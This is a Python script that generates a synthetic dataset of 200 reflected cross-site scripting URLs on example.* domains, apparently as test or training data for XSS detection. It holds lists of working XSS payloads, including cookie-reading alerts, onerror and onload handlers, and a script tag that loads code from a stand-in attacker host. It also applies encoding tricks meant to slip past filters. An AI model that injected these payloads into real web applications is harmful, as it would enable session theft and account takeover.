"""Regenerate xss_urls.txt, the synthetic mini-corpus of reflected-XSS URLs.

Usage: python3 data/generate_urls.py > data/xss_urls.txt
"""

import random
import urllib.parse

HOSTS = [
    "www.shop-example.com", "news.example.org", "forum.example.net", "app.example.com",
    "search.example.info", "portal.example.edu", "blog.example.co", "travel.example.biz",
    "jobs.example.org", "media.example.tv", "wiki.example.net", "store.example.io",
]
PATHS = [
    "search.php", "index.php", "results.asp", "news/view.php", "cgi-bin/search.cgi",
    "find.jsp", "query.aspx", "catalog/list.php", "member/login.php", "guestbook.php",
]
PARAMS = ["q", "keyword", "search", "query", "s", "term", "name", "id", "page", "msg"]
BENIGN = [("lang", "en"), ("page", "1"), ("sort", "asc"), ("cat", "12"), ("sid", "a81f")]

PREFIXES = [
    "\">", "'>", "\"/>", "</title>", "</textarea>", "-->", "'\">", "\">'>", "", "", "</script>",
    "\"><!--x-->", "abc\">",
]
BODIES = [
    "<script>alert(1)</script>",
    "<script>alert(123)</script>",
    "<script>alert(document.cookie)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=http://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS')\">",
    "<img src=\"x\" onerror=\"alert(document.domain)\">",
    "<iframe src=http://xssed.com>",
    "<iframe/src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=\"alert(1)\">hover</div>",
]
SUFFIXES = [
    "", "", "", "<!--", "//", "<b>", "x",
    "<script>alert(2)</script>", "<img src=x onerror=alert(2)>", "<svg/onload=alert(2)>",
]


def percent_all_reserved(s):
    return urllib.parse.quote(s, safe="")


def percent_partial(s):
    return "".join(urllib.parse.quote(c, safe="") if c in "<>\"'" else c for c in s)


def double_encode(s):
    return percent_all_reserved(percent_all_reserved(s))


def plus_spaces(s):
    return urllib.parse.quote_plus(s, safe="()/=:")


def entity_named(s):
    return s.replace("<", "&lt;").replace(">", "&gt;")


ENCODERS = [
    (percent_all_reserved, 5),
    (percent_partial, 3),
    (double_encode, 1),
    (plus_spaces, 2),
    (entity_named, 1),
]


def main():
    rng = random.Random(20260412)
    encoders = [e for e, w in ENCODERS for _ in range(w)]
    print("# Synthetic reflected-XSS URLs in the style of public XSS archives.")
    print("# One URL per line; lines starting with # are comments.")
    print()
    for n in range(200):
        host = rng.choice(HOSTS)
        path = rng.choice(PATHS)
        attack = rng.choice(PREFIXES) + rng.choice(BODIES) + rng.choice(SUFFIXES)
        encoded = rng.choice(encoders)(attack)
        param = rng.choice(PARAMS)
        pairs = []
        if rng.random() < 0.35:
            k, v = rng.choice(BENIGN)
            pairs.append(f"{k}={v}")
        pairs.append(f"{param}={encoded}")
        if rng.random() < 0.25:
            k, v = rng.choice(BENIGN)
            pairs.append(f"{k}={v}")
        sep = ";" if rng.random() < 0.05 else "&"
        url = f"http://{host}/{path}?{sep.join(pairs)}"
        if n % 40 == 17:
            url = f"http://{host}/{path}#{attack}"
        if n % 50 == 29:
            url = f"http://{host}/{percent_partial(attack).replace('/', '%2F')}/{path}"
        print(url)
    print("# URLs without an injection point are skipped by ingest.")
    print("http://www.shop-example.com/")
    print("http://news.example.org/archive/2009/index.html")


if __name__ == "__main__":
    main()
